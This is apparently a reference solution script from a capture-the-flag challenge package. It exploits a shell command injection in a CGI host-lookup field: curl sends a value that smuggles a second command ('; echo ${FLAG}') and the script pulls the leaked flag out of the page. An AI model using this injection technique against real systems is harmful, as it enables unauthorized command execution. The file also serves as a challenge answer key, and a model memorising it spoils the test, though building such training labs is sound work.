#!/usr/bin/env bash
# Reference solve for web-cmdinject.
# Intended path: the host field is only checked client-side; the CGI runs
# sh -c "grep -i -w -e $host /etc/hosts", so host=127.0.0.1;echo $FLAG injects a command.
# The flag is in the server's environment (env var FLAG); we wrap it in
# markers so it is easy to pick out of the HTML (the marker is split with ""
# so that the page's echo of our own input does not match).
# Usage: solve.sh --connection-info "http://HOST:PORT"   (or env CTFDECK_HOST/CTFDECK_PORT)
# Prints only the flag on stdout; exit 0 on success, non-zero otherwise.
set -euo pipefail

conn=""
case "${1:-}" in
    --connection-info) conn="${2:-}" ;;
    --connection-info=*) conn="${1#*=}" ;;
esac
if [[ -z $conn && -n ${CTFDECK_HOST:-} ]]; then
    conn="http://${CTFDECK_HOST}:${CTFDECK_PORT:-8080}"
fi
[[ -n $conn ]] || { echo "usage: $0 --connection-info http://HOST:PORT" >&2; exit 2; }
[[ $conn == *://* ]] || conn="http://$conn"
base="${conn%/}"

payload='127.0.0.1; echo "XFLAG""X${FLAG}XENDX"'
page="$(curl -fsS --max-time 15 --get --data-urlencode "host=$payload" "$base/cgi-bin/lookup")"
if [[ $page =~ XFLAGX([^[:space:]\<]+)XENDX ]]; then
    printf '%s\n' "${BASH_REMATCH[1]}"
    exit 0
fi
echo "injection did not return a flag" >&2
exit 1
